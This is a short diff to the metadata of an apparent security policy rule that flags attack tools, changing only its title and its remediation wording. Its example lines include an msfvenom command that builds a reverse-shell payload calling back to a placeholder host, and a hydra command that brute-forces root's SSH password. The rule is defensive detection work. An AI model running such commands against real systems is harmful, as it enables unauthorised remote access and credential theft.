@@ -1,11 +1,11 @@
 # METADATA
-# title: Tool for attacks
+# title: Attack tool
 # description: >-
 #   Programs that make payloads, guess passwords, search for holes or stand between others. They have honest uses, of which a
 #   person decides.
 # custom:
 #   severity: high
-#   remediation: Say what shall be tested and on whose behalf, and let a person run the tool.
+#   remediation: Name the target and its owner, and let a person run the tool.
 #   examples:
 #     - msfvenom -p linux/x64/shell_reverse_tcp LHOST=192.0.2.1 -f elf -o x
 #     - hydra -l root -P words.txt ssh://192.0.2.1
